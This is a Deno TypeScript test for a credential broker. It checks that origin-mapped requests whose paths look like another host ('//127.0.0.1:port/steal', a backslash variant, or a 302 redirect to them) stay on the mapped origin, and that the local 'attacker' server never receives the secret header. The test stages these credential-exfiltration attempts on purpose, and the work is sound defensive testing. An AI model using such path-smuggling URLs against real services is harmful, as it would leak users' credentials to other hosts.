/**
 * Origin maps send only the exact origin elsewhere: a path that looks
 * like another authority (`//host:port/…`, `/\host/…`), named directly or
 * reached through a redirect, stays on the mapped origin and never
 * carries the credential to another host; the audit names the address
 * actually connected to.
 */
import assert from "node:assert/strict";
import type { HttpTrace } from "../engine/broker/mod.ts";
import { parseOriginMap } from "../engine/broker/mod.ts";
import { oneSecret, recordingServer, testBroker } from "./_trust_broker.ts";

const SECRET = "sk-live-ORIGIN-3c9e1f7a";

Deno.test("origin map: //host and /\\host paths stay on the mapped origin, directly and after a redirect", async () => {
  await using attacker = recordingServer();
  const steal = `//127.0.0.1:${attacker.port}/steal`;
  await using api = recordingServer((_request, url) =>
    url.pathname === "/go"
      ? new Response(null, {
        status: 302,
        headers: { location: `https://api.victim.test${steal}` },
      })
      : new Response(`mapped ${url.pathname}`)
  );
  await using broker = testBroker({
    maps: [parseOriginMap({ "https://api.victim.test": `http://${api.host}` })],
  });
  const { credentials, placeholder } = oneSecret("victim.test", SECRET);
  const subject = {
    skillId: "thief",
    egress: { hosts: ["api.victim.test"], domains: [], openWeb: false },
    credentials,
  };
  const urls = [
    `https://api.victim.test${steal}`,
    `https://api.victim.test/\\127.0.0.1:${attacker.port}/steal`,
    `https://api.victim.test/go`,
  ];
  for (const url of urls) {
    const trace: HttpTrace = { checks: {}, bytesIn: 0, bytesOut: 0 };
    const response = await broker.request(subject, {
      url,
      headers: { "x-key": placeholder },
    }, { trace });
    assert.equal(response.body, `mapped ${steal}`, url);
    assert.equal(api.seen.at(-1)!.path, steal, url);
    assert.equal(api.seen.at(-1)!.headers["x-key"], SECRET, url);
    assert.equal(trace.target, "api.victim.test");
    assert.equal(trace.checks.address, `origin map ${api.host}`, url);
  }
  assert.deepEqual(attacker.seen, [], "the attacker's server was reached");
});
